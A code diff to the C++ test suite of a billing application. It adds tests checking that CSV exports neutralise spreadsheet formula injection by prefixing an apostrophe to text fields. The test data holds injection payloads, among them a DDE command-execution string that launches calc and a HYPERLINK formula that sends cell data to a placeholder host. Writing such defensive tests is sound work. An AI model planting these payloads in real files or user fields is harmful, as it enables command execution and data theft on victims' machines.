@@ -110,6 +110,13 @@ std::vector<QStringList> readCsv(const QByteArray& bytes) {
     return records;
 }
 
+// What a text field reads back as: a spreadsheet would run one that starts
+// like a formula, so the file holds it behind an apostrophe.
+QString asStored(const QString& text) {
+    static const QString formula = QStringLiteral("=+-@\t\r");
+    return !text.isEmpty() && formula.contains(text.front()) ? u'\'' + text : text;
+}
+
 QByteArray readAll(const QString& path) {
     QFile f(path);
     return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
@@ -395,9 +402,9 @@ TEST_F(BillingTest, EntriesCsvReadsBackFieldByField) {
         const Entry& e = entries[i];
         const QStringList& r = records[i + 1];
         ASSERT_EQ(r.size(), 11) << i;
-        EXPECT_EQ(r[0], e.user);
-        EXPECT_EQ(r[1], e.activity);
-        EXPECT_EQ(r[2], e.client);
+        EXPECT_EQ(r[0], asStored(e.user));
+        EXPECT_EQ(r[1], asStored(e.activity));
+        EXPECT_EQ(r[2], asStored(e.client));
         // ISO 8601 with the zone's offset: the same instant as the local time.
         EXPECT_EQ(QDateTime::fromString(r[3], Qt::ISODate),
                   QDateTime(e.start.date(), e.start.time()));
@@ -410,8 +417,77 @@ TEST_F(BillingTest, EntriesCsvReadsBackFieldByField) {
         EXPECT_EQ(r[8], hmsText(e.duration));
         EXPECT_EQ(QString(r[9]).replace(',', '.').toDouble(),
                   std::round(e.duration / 36.0) / 100.0);
-        EXPECT_EQ(r[10], e.comment) << i;
+        EXPECT_EQ(r[10], asStored(e.comment)) << i;
     }
+}
+
+// Names and comments someone else may have typed, starting with each
+// character a spreadsheet reads as a formula: both exports write them as
+// text (apostrophe first, quoted); the program's own figures stay numbers.
+TEST_F(BillingTest, TextsThatLookLikeFormulasAreWrittenAsText) {
+    const QStringList formulas{"=1+1",
+                               "=HYPERLINK(\"http://x.example/?\"&A1,\"y\")",
+                               "=cmd|' /C calc'!A0",
+                               "+33 6 12",
+                               "-2+3",
+                               "@SUM(1+1)",
+                               "\t=1+1",
+                               "\r=1+1",
+                               "\r\n=1+1"};
+    db.exec("DELETE FROM activites");
+    for (qsizetype i = 0; i < formulas.size(); ++i) {
+        auto q = [](QString s) { return "'" + s.replace("'", "''") + "'"; };
+        db.exec(QString("INSERT INTO activites (\"USER\", SURVEILLANCES, CLIENTS, DEBUT, FIN, "
+                        "DUREE, COMMENTAIRE) VALUES (%1, %1, %1, '2026-03-%2 08:00:00', "
+                        "'2026-03-%2 08:10:00', 600, %1)")
+                    .arg(q(formulas[i]))
+                    .arg(10 + i));
+    }
+    view();
+    const auto isNumber = QRegularExpression("^\\d+(,\\d+)?$");
+    const auto isHms = QRegularExpression("^\\d+:\\d\\d:\\d\\d$");
+
+    const auto rows = readCsv(readAll(exported(Export::EntriesCsv, "entrees.csv")));
+    ASSERT_EQ(rows.size(), formulas.size() + 1);
+    for (qsizetype i = 0; i < formulas.size(); ++i) {
+        const QStringList& r = rows[i + 1];
+        ASSERT_EQ(r.size(), 11);
+        for (int text : {0, 1, 2, 10}) EXPECT_EQ(r[text], "'" + formulas[i]) << i << " " << text;
+        EXPECT_EQ(r[7], "600");
+        EXPECT_EQ(r[8], "0:10:00");
+        EXPECT_EQ(r[9], "0,17");
+    }
+
+    // The summary by client, and by activity with rounding on.
+    for (const auto [grouping, rounding] :
+         {std::pair{Grouping::Client, ""}, std::pair{Grouping::Activity, "15 haut"}}) {
+        billing->summaryView()->GroupingBox->setCurrentIndex(int(grouping));
+        billing->summaryView()->RoundingBox->setCurrentIndex(
+            billing->summaryView()->RoundingBox->findData(rounding));
+        waitTotals();
+        const auto sums = readCsv(readAll(exported(Export::SummaryCsv, "synthese.csv")));
+        ASSERT_EQ(sums.size(), formulas.size() + 2);
+        QStringList keys;
+        for (size_t i = 1; i + 1 < sums.size(); ++i) {
+            keys << sums[i][0];
+            for (qsizetype f = 1; f < sums[i].size(); ++f)
+                EXPECT_TRUE(isNumber.match(sums[i][f]).hasMatch() ||
+                            isHms.match(sums[i][f]).hasMatch())
+                    << sums[i][f].toStdString();
+        }
+        QStringList expected;
+        for (const QString& f : formulas) expected << "'" + f;
+        keys.sort();
+        expected.sort();
+        EXPECT_EQ(keys, expected);
+        EXPECT_EQ(sums.back()[2], "5400");
+    }
+
+    // A figure is written as it is, even negative; the same text is not.
+    CsvWriter csv;
+    csv.record(
+        {CsvWriter::Field("-1,50"), CsvWriter::figure("-1,50"), CsvWriter::figure("-0:30:00")});
+    EXPECT_EQ(readCsv(csv.take()), (std::vector<QStringList>{{"'-1,50", "-1,50", "-0:30:00"}}));
 }
 
 TEST_F(BillingTest, SummaryCsvHoldsEachLineAndTheTotal) {
